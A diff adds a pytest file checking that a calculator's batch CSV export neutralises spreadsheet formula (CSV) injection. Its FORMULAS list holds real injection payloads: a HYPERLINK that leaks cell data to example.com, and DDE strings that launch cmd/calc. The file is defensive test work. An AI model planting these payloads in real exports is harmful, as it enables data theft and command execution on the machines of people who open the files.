@@ -1,0 +1,183 @@
+"""The batch result is safe to open in a spreadsheet (OWASP, CSV injection) and names the rules it was checked on.
+
+Both the command line and the browser's download are written by calculator.batch.write_csv (the browser
+through site_config/calculator/micropython/calculator_browser.py); both are checked here.
+"""
+
+from __future__ import annotations
+
+import csv
+import importlib.util
+import io
+import json
+import subprocess
+import sys
+from types import ModuleType
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from calculator import batch
+from calculator.ruleset import load_rules_file, rules_version
+from tests.conftest import ROOT
+
+RULES = load_rules_file(str(ROOT / "calculator" / "rules.json"))
+VERSION = rules_version(RULES)["id"]
+HEADER = "姓名,公需必修,公需选修,专业科目,备注\r\n"
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?leak="&A1,"点这里")',
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "  =1+1",
+    "\u3000=1+1",
+]
+
+
+def load_glue() -> ModuleType:
+    """The browser's glue (calculator_browser.py), loaded under CPython with the real calculator package."""
+    path = ROOT / "site_config" / "calculator" / "micropython" / "calculator_browser.py"
+    spec = importlib.util.spec_from_file_location("calculator_browser_under_test", path)
+    assert spec is not None and spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    module.load(str(ROOT / "calculator" / "rules.json"))
+    return module
+
+
+GLUE = load_glue()
+
+
+def browser_download(text: str, year: str = "2026") -> str:
+    """The CSV the page offers for download (worker.js adds only the BOM)."""
+    answer = json.loads(GLUE.batch(text, year, "", lambda done: None, 100))
+    assert "result" in answer, answer
+    csv_text: str = GLUE.batch_csv()
+    return csv_text
+
+
+def cli_output(text: str) -> str:
+    done = subprocess.run(
+        [sys.executable, "-m", "calculator", "batch", "-", "--year", "2026"],
+        cwd=ROOT,
+        input=text.encode("utf-8"),
+        capture_output=True,
+        timeout=60,
+    )
+    assert done.returncode == 0, done.stderr.decode("utf-8")
+    return done.stdout.decode("utf-8")
+
+
+def read(csv_text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(csv_text, newline="")))
+
+
+def formula_table() -> str:
+    lines = []
+    for number, formula in enumerate(FORMULAS):
+        cell = '"' + formula.replace('"', '""') + '"'
+        lines.append(f"{cell},20,0,70,{cell}\r\n")
+        lines.append(f"员工{number},20,0,{cell},备注\r\n")
+    return HEADER + "".join(lines)
+
+
+@pytest.mark.parametrize("writer", ["command line", "browser download"])
+def test_every_formula_cell_gets_a_quote_in_front_and_nothing_else_changes(writer: str) -> None:
+    text = formula_table()
+    output = cli_output(text) if writer == "command line" else browser_download(text)
+    rows = read(output)
+    assert rows[0][:5] == ["姓名", "公需必修", "公需选修", "专业科目", "备注"]
+    body = rows[1:]
+    assert len(body) == 2 * len(FORMULAS)
+    for number, formula in enumerate(FORMULAS):
+        as_name, as_hours = body[2 * number], body[2 * number + 1]
+        assert as_name[0] == as_name[4] == "'" + formula
+        assert as_name[5] == "true"  # the row itself is checked as usual
+        assert as_hours[3] == "'" + formula  # checked as typed (＋1 is 1 hour; =1+1 is an error), written safely
+        assert as_hours[0] == f"员工{number}"
+
+
+@pytest.mark.parametrize("writer", ["command line", "browser download"])
+def test_numbers_stay_numbers(writer: str) -> None:
+    text = HEADER + "张三,20,0,-5,-3.5\r\n李四,+20,0,70,+1\r\n"
+    output = cli_output(text) if writer == "command line" else browser_download(text)
+    rows = read(output)
+    assert rows[1][3:5] == ["-5", "-3.5"]
+    assert rows[2][1] == "+20" and rows[2][4] == "+1"
+    assert rows[2][5:7] == ["true", "90"]
+
+
+@pytest.mark.parametrize("writer", ["command line", "browser download"])
+def test_every_row_names_the_rules_version_it_was_checked_on(writer: str) -> None:
+    text = HEADER + "张三,20,0,70,\r\n李四,二十,0,70,\r\n"
+    rows = read(cli_output(text) if writer == "command line" else browser_download(text))
+    assert rows[0][-1] == "rules_version"
+    assert [row[-1] for row in rows[1:]] == [VERSION, VERSION]
+
+
+def test_a_previous_result_read_again_keeps_one_rules_version_column_and_its_quotes() -> None:
+    names = "".join('"{0}",20,0,70,"{0}"\r\n'.format(formula.replace('"', '""')) for formula in FORMULAS)
+    first = cli_output(HEADER + names)
+    again = cli_output(first)
+    assert again == first
+    assert read(again)[0].count("rules_version") == 1
+
+
+def output_cells(rows: list[list[str]]) -> list[str]:
+    return [cell for row in rows for cell in row]
+
+
+CELL = st.one_of(
+    st.sampled_from([*FORMULAS, "", "20", "-5", "+5", "1e5", "'=x", "张三", " ", "=", "-", "@"]),
+    st.text(alphabet=st.sampled_from(list("=+-@\t\r\n＝＋－＠ \u3000 a1.,\"'中")), max_size=6),
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.lists(CELL, min_size=5, max_size=6), min_size=1, max_size=6))
+def test_no_cell_written_starts_a_formula_and_each_is_the_cell_or_a_quote_and_the_cell(
+    table: list[list[str]],
+) -> None:
+    text = HEADER + "".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n" for row in table)
+    rows, _ = batch.check_table(RULES, text, 2026, None)
+    written = read(batch.write_csv(rows))
+    assert len(written) == len(rows)
+    for plain, safe in zip(output_cells(rows), output_cells(written), strict=True):
+        assert safe == batch.spreadsheet_safe(plain)
+        assert safe in (plain, "'" + plain)
+        start = safe.lstrip(" \u3000\xa0")[:1]
+        if start and start in batch.FORMULA_STARTS:
+            number = safe.strip(" \u3000\xa0").lstrip("+-")
+            assert number.replace(".", "", 1).isdigit() and number.isascii(), safe
+
+
+def test_our_own_columns_never_need_a_quote() -> None:
+    """Verdicts, figures, warning ids, errors and the version never start like a formula (so they stay as they are)."""
+    text = HEADER + "".join(f"员工{n},{n % 25},{n % 40}.5,{n % 90},\r\n" for n in range(300))
+    text += "坏,-5,x,=1,\r\n空,,,,\r\n"
+    rows, _ = batch.check_table(RULES, text, 2026, "2026-06-01")
+    ours = [cell for row in rows for cell in row[5:]]
+    assert all(batch.spreadsheet_safe(cell) is cell for cell in ours)
+
+
+def test_writing_ten_thousand_plain_rows_keeps_the_fast_path(monkeypatch: Any) -> None:
+    """No formula anywhere: write_csv writes the table once, never cell by cell."""
+    calls: list[list[str]] = []
+
+    def counted(row: list[str]) -> list[str]:
+        calls.append(row)
+        return row
+
+    monkeypatch.setattr(batch, "_safe_row", counted)
+    rows, _ = batch.check_table(RULES, HEADER + "张三,20,0,70,\r\n" * 10_000, 2026, None)
+    assert batch.write_csv(rows).count("\r\n") == 10_001
+    assert calls == []
